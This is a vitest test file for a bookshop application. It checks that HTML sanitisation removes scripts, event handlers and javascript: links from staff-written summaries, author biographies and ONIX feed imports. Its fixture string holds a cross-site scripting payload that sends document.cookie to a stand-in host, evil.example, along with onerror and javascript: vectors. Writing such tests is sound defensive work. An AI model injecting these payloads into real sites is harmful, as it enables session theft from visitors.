import { authorEndpoints, productEndpoints, publicProductEndpoints } from '@colophon/contract';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { aBook } from '../catalog/testing/catalog-fixtures.ts';
import { onixMessage, onixProduct } from '../catalog/testing/onix-builder.ts';
import { importOnix } from '../catalog/testing/onix-uploads.ts';
import { startTestApp, type TestApp } from '../testing/index.ts';

/**
 * HTML that the shop's site will show as it is: a script in it would run on the site, in the visitor's
 * session. The generic client cleans HTML (`cleanHtml: true`).
 */

let api: TestApp;
beforeAll(async () => {
  api = await startTestApp();
});
afterAll(() => api.close());

const hostile =
  '<p class="MsoNormal" style="color:red">Un <strong>roman</strong> noir.</p><script>fetch("https://evil.example/?c="+document.cookie)</script><img src="x" onerror="alert(1)"><a href="javascript:alert(1)">lire</a>';

describe('HTML written by staff', () => {
  it('when staff save a summary with a script, an event handler and a javascript: link, then the site reads it without them, its presentation cleaned', async () => {
    const created = await api.call(productEndpoints.create, {
      body: aBook({ ean: '9782070413065', summary: hostile }),
      token: api.adminToken,
    });
    expect(created.output.summary).toBe('<p>Un <strong>roman</strong> noir.</p><img src="x" /><a>lire</a>');
    const read = await api.call(publicProductEndpoints.byId, { query: { id: created.output.id } });
    expect(read.output.summary).toBe(created.output.summary);
  });

  it('when staff save an author’s biography with a script, then it is stored without it', async () => {
    const author = await api.call(authorEndpoints.create, {
      body: { name: 'Dominique Manotti', biography: hostile, photoUrl: null },
      token: api.adminToken,
    });
    expect(author.output.biography).toBe('<p>Un <strong>roman</strong> noir.</p><img src="x" /><a>lire</a>');
  });
});

describe('HTML from the feed', () => {
  it('when an ONIX summary carries a script, then the imported product’s summary keeps the publisher’s text and presentation without it', async () => {
    const collateral = `<TextContent><TextType>03</TextType><ContentAudience>00</ContentAudience><Text textformat="05"><![CDATA[${hostile}]]></Text></TextContent>`;
    const report = await importOnix(
      api,
      onixMessage([onixProduct({ ean: '9782070413072', title: 'Le feed', price: '12.00', collateral })]),
    );
    expect(report.state).toBe('completed');
    const product = await api.call(publicProductEndpoints.byEan, { query: { ean: '9782070413072' } });
    expect(product.output.summary).toBe(
      '<p class="MsoNormal" style="color:red">Un <strong>roman</strong> noir.</p><img src="x" /><a>lire</a>',
    );
  });
});
